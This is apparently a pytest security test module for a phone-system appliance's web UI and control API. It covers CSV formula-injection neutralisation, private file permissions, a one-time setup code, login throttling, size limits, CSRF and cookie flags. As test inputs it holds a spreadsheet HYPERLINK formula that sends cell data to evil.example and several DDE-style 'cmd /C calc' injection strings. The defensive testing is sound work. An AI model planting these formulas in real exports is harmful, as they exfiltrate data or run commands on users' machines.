"""The web page, the control API and the exports against an attacker on the office LAN,
with the real core where it is cheap (one `callbox core` process for the module).

docs/security.md ("The web page, the control API and provisioning") names each rule
and the test here that proves it.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import pytest

from appliance.logic.csv_safe import safe_cell
from appliance.store.records import CallRecords
from tests.conftest import ROOT
from tests.integration.corebox import CoreProcess

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Call back")'


@pytest.fixture(scope="module")
def core(tmp_path_factory):
    data = tmp_path_factory.mktemp("hostile") / "data"
    data.mkdir()
    # A caller's name is whatever the caller's phone sent: here, a formula.
    records = CallRecords(data)
    records.append({"start": "2026-01-05T09:00:00+00:00", "end": "2026-01-05T09:01:00+00:00",
                    "caller": "+48601234567", "caller_name": EVIL_NAME, "callee": "500",
                    "disposition": "ANSWERED", "direction": "inbound", "duration_s": 60})
    records.close()
    box = CoreProcess(data).start()
    yield box
    box.stop()


# ---- CSV exports neutralise formulas ------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    (EVIL_NAME, "'" + EVIL_NAME),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+48601234567", "+48601234567"),   # a phone number is a number, not a formula
    ("-12.50", "-12.50"),
    ("Anna", "Anna"),
    (42, 42),
])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(cell, expected):
    assert safe_cell(cell) == expected


def test_the_call_record_export_quotes_a_callers_formula(core):
    status, text = core.api("GET", "/api/cdr.csv")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["caller_name"] == "'" + EVIL_NAME
    assert rows[0]["caller"] == "+48601234567"


def test_the_contacts_export_quotes_formulas_and_imports_back_unchanged(core):
    status, created = core.api("POST", "/api/contacts", {"name": "@SUM(1+1)", "company": "=1+2",
                                                         "numbers": ["+48601000001"]})
    assert status == 201, created
    status, text = core.api("GET", "/api/contacts.csv")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if "SUM" in r["name"])
    assert (row["name"], row["company"]) == ("'@SUM(1+1)", "'=1+2")
    core.api("DELETE", f"/api/contacts/{created['id']}")
    status, result = core.api("POST", "/api/contacts.csv", raw=text.encode())
    assert status == 200 and result["imported"] == 1, result
    status, listing = core.api("GET", "/api/contacts?q=SUM")
    assert [c["name"] for c in listing["contacts"]] == ["@SUM(1+1)"]


def test_every_csv_export_goes_through_the_safe_writer():
    """A new export written with csv.writer directly would skip the quoting."""
    offenders = []
    for base in ("appliance", "web"):
        for path in (ROOT / base).rglob("*.py"):
            if path.name != "csv_safe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# ---- secrets are 0600 ---------------------------------------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_the_configuration_and_the_secret_files_are_private(core):
    status, _ = core.api("PATCH", "/api/settings", {"smtp.password": "mail-secret-1"})
    assert status == 200
    data = core.data_dir
    assert "mail-secret-1" in (data / "config.json").read_text()
    assert _mode(data / "config.json") == 0o600
    assert _mode(data / "state" / "api_token") == 0o600
    assert _mode(data / "run" / "api.json") == 0o600
    assert _mode(data / "state") == 0o700 and _mode(data / "run") == 0o700
    assert _mode(data) & 0o007 == 0


def test_a_box_written_before_the_rule_is_made_private_when_the_core_opens_it(tmp_path):
    from appliance.store.db import Store
    (tmp_path / "state").mkdir(mode=0o755)
    (tmp_path / "config.json").write_text('{"_meta": {"1": {"schema_version": 0}}}')
    os.chmod(tmp_path / "config.json", 0o644)
    os.chmod(tmp_path, 0o755)
    Store(tmp_path).close()
    assert _mode(tmp_path / "config.json") == 0o600
    assert _mode(tmp_path / "state") == 0o700
    assert _mode(tmp_path) == 0o750


# ---- the first admin needs the set-up code ------------------------------------------

import json  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import time  # noqa: E402

from tests.conftest import free_port  # noqa: E402
from tests.web.conftest import ADMIN_PASSWORD, FakeClock, add_user, log_in  # noqa: E402
from tests.web.wsgi_client import WsgiClient  # noqa: E402
from web.api_client import ApiClient  # noqa: E402
from web.app import WebSettings, create_app  # noqa: E402
from web.kit import hash_password, verify_password  # noqa: E402

PASSWORD = "a long enough pass"
STRANGER, OWNER = "192.168.1.66", "192.168.1.7"


@pytest.fixture
def fresh_core(tmp_path):
    box = CoreProcess(tmp_path / "data").start()
    yield box
    box.stop()


def web_on(core: CoreProcess, clock=None):
    settings = WebSettings(clock=clock or FakeClock(), data_dir=str(core.data_dir))
    return create_app(settings, ApiClient.from_data_dir(core.data_dir))


def setup_form(client: WsgiClient, code: str, username: str = "boss"):
    return client.submit("/setup", "/setup", {"username": username, "password": PASSWORD,
                                              "password2": PASSWORD, "code": code})


def test_the_core_makes_a_private_set_up_code_prints_it_and_check_shows_it(fresh_core):
    path = fresh_core.data_dir / "state" / "setup_code"
    code = path.read_text()
    assert re.fullmatch(r"[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{4}", code)
    assert _mode(path) == 0o600
    assert code in fresh_core.log()  # on the console of `callbox core`
    out = subprocess.run([sys.executable, "-m", "appliance.cli", "check", "--json", "--data",
                          str(fresh_core.data_dir)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert json.loads(out.stdout)["setup"] == {"needed": True, "code": code, "how": pytest.approx(
        json.loads(out.stdout)["setup"]["how"])}


def test_callbox_web_prints_the_set_up_code_on_its_console(fresh_core, tmp_path):
    code = (fresh_core.data_dir / "state" / "setup_code").read_text()
    port = free_port()
    log = tmp_path / "web.log"
    with open(log, "wb") as out:
        proc = subprocess.Popen([sys.executable, "-m", "appliance.cli", "web", "--data", str(fresh_core.data_dir),
                                 "--host", "127.0.0.1", "--port", str(port), "--insecure-http"],
                                cwd=ROOT, stdout=out, stderr=subprocess.STDOUT)
        try:
            deadline = time.monotonic() + 20
            while code not in log.read_text() and time.monotonic() < deadline and proc.poll() is None:
                time.sleep(0.1)
        finally:
            proc.terminate()
            proc.wait(10)
    assert code in log.read_text() and f"http://127.0.0.1:{port}/setup" in log.read_text()


def test_a_stranger_on_the_lan_cannot_create_the_admin_and_the_code_works_once(fresh_core):
    app = web_on(fresh_core)
    code = (fresh_core.data_dir / "state" / "setup_code").read_text()
    stranger = WsgiClient(app, remote_addr=STRANGER)
    for guess in ("", "AAAA-BBBB-CCCC"):
        reply = setup_form(stranger, guess, "intruder")
        assert reply.status == 403 and "Wrong set-up code" in reply.text
    assert fresh_core.api("GET", "/api/users")[1]["users"] == []
    owner = WsgiClient(app, remote_addr=OWNER)
    reply = setup_form(owner, code.lower().replace("-", " "))  # as typed off the console
    assert (reply.status, reply.location) == (303, "/login")
    assert [u["username"] for u in fresh_core.api("GET", "/api/users")[1]["users"]] == ["boss"]
    assert not (fresh_core.data_dir / "state" / "setup_code").exists()
    # Used up: the same code makes no second admin, not even through the API.
    token = stranger.get("/login").csrf()
    reply = stranger.post("/setup", {"username": "second", "password": PASSWORD, "password2": PASSWORD,
                                     "code": code, "csrf_token": token})
    assert reply.status == 403
    status, _ = fresh_core.api("POST", "/api/setup", {"code": code, "username": "second",
                                                      "password_hash": hash_password(PASSWORD)})
    assert status == 409
    fresh_core.stop()
    fresh_core.start()
    assert not (fresh_core.data_dir / "state" / "setup_code").exists()  # an admin exists: none is made


def test_wrong_set_up_codes_are_throttled_for_that_address(fake_api, clock):
    app = create_app(WebSettings(clock=clock), ApiClient(fake_api.url, fake_api.token))
    stranger = WsgiClient(app, remote_addr=STRANGER)
    for n in range(5):
        assert setup_form(stranger, f"WRONG-{n}").status == 403
    reply = setup_form(stranger, fake_api.setup_code)  # even the right one must wait now
    assert reply.status == 429 and int(reply.header("Retry-After")) >= 1
    assert fake_api.users == {}
    owner = WsgiClient(app, remote_addr=OWNER)
    assert setup_form(owner, fake_api.setup_code).status == 303


# ---- login throttling: per address and user, growing delays, a way back in -----------

def test_an_attackers_failures_from_one_address_do_not_lock_the_owner_out_from_another(fresh_core):
    clock = FakeClock()
    fresh_core.api("POST", "/api/users", {"username": "boss", "role": "admin",
                                          "password_hash": hash_password(ADMIN_PASSWORD)})
    app = web_on(fresh_core, clock)
    attacker = WsgiClient(app, remote_addr=STRANGER)
    statuses = set()
    for _ in range(30):
        statuses.add(log_in(attacker, "boss", "guess-guess-guess").status)
        clock.advance(1)
    assert statuses == {400, 429}  # slowed down, by growing delays
    owner = WsgiClient(app, remote_addr=OWNER)
    assert log_in(owner, "boss", ADMIN_PASSWORD).status == 303


def test_reset_password_on_the_console_lets_the_owner_back_in(fresh_core):
    clock = FakeClock()
    fresh_core.api("POST", "/api/users", {"username": "boss", "role": "admin",
                                          "password_hash": hash_password("forgotten password")})
    app = web_on(fresh_core, clock)
    owner = WsgiClient(app, remote_addr=OWNER)
    for _ in range(12):  # the owner, trying every password they can think of
        log_in(owner, "boss", "maybe-this-one")
    assert log_in(owner, "boss", "anything").status == 429
    out = subprocess.run([sys.executable, "-m", "appliance.cli", "reset-password", "boss", "--data",
                          str(fresh_core.data_dir)], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    new = re.search(r"New password for boss: (\S+)", out.stdout).group(1)
    stored = fresh_core.api("GET", "/api/users/boss")[1]["password_hash"]
    assert verify_password(new, stored)
    # A new password forgets the failures counted against the old one: in at once.
    assert log_in(owner, "boss", new).status == 303
    bad = subprocess.run([sys.executable, "-m", "appliance.cli", "reset-password", "nobody", "--data",
                          str(fresh_core.data_dir)], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert bad.returncode == 1 and "no web user nobody" in bad.stderr


# ---- body size limits ------------------------------------------------------------------

def test_an_oversized_form_is_refused_before_it_is_read(fake_api, browser):
    add_user(fake_api, "boss", "admin", ADMIN_PASSWORD)
    token = browser.get("/login").csrf()
    body = ("csrf_token=" + token + "&username=boss&password=" + "x" * (2 << 20)).encode()
    reply = browser.request("POST", "/login", raw=(body, "application/x-www-form-urlencoded"))
    assert reply.status == 413
    fields = {"csrf_token": token, "username": "boss"}
    reply = browser.post_multipart("/login", fields, {"junk": ("junk.bin", b"\0" * (2 << 20))})
    assert reply.status == 413 and "too large" in reply.text
    reply = browser.request("POST", "/login", raw=(b"x", "application/x-www-form-urlencoded"),
                            headers={"Transfer-Encoding": "chunked"})
    assert reply.status == 411


def test_an_upload_over_its_cap_gets_a_clear_error(admin, fake_api):
    token = admin.get("/prompts").csrf()
    before = len(fake_api.requests)
    reply = admin.post_multipart("/prompts/upload", {"csrf_token": token, "name": "welcome",
                                                     "language": "en"},
                                 {"audio": ("big.wav", b"\0" * ((32 << 20) + (80 << 10)))})
    assert reply.status == 413 and "The file is too big (at most 33 MB)" in reply.text
    assert not [r for r in fake_api.requests[before:] if r[0] != "GET"]


def test_the_web_server_caps_bodies_and_headers():
    from web.kit import MAX_HEADER, SERVER_MAX_BODY
    from web.server import make_server
    server = make_server(lambda environ, start: [], "127.0.0.1", 0)
    assert (server.max_request_body_size, server.max_request_header_size) == (SERVER_MAX_BODY, MAX_HEADER)


def test_the_control_api_caps_every_body(core):
    status, body = core.api("PATCH", "/api/settings", raw=b"{" + b" " * (2 << 20) + b"}")
    assert status in (400, 413) and "too large" in str(body).lower()
    status, body = core.api("POST", "/api/contacts.csv", raw=b"name\n" + b"a\n" * (3 << 20))
    assert status == 413 and "at most 4 MB" in body["error"]
    status, body = core.api("PUT", "/api/prompts/en/welcome", raw=b"\0" * ((32 << 20) + 1))
    assert status == 413 and "at most 32 MB" in body["error"]


# ---- CSRF and the session cookie -------------------------------------------------------

def test_every_state_changing_route_needs_the_csrf_token(admin, fake_api):
    app = admin.app
    before = len(fake_api.requests)
    checked = 0
    for route in app.routes:
        if route.method not in ("POST", "PUT", "PATCH", "DELETE"):
            continue
        path = re.sub(r"<([^>:]+)(:[^>]*)?>", "x", route.rule)
        reply = admin.request(route.method, path, form={"confirm": "on"})
        assert reply.status == 403, (route.method, route.rule, reply.status)
        checked += 1
    assert checked > 40
    assert [r for r in fake_api.requests[before:] if r[0] != "GET"] == []


@pytest.mark.parametrize("secure", [True, False])
def test_the_session_cookie_is_httponly_strict_and_secure_over_https(fake_api, secure):
    app = create_app(WebSettings(clock=FakeClock(), secure_cookie=secure),
                     ApiClient(fake_api.url, fake_api.token))
    add_user(fake_api, "boss", "admin", ADMIN_PASSWORD)
    for reply in (WsgiClient(app).get("/login"), log_in(WsgiClient(app), "boss", ADMIN_PASSWORD)):
        cookie = next(c for c in reply.cookies() if c.startswith("callbox_session=")).lower()
        assert "httponly" in cookie and "samesite=strict" in cookie
        assert ("; secure" in cookie) is secure
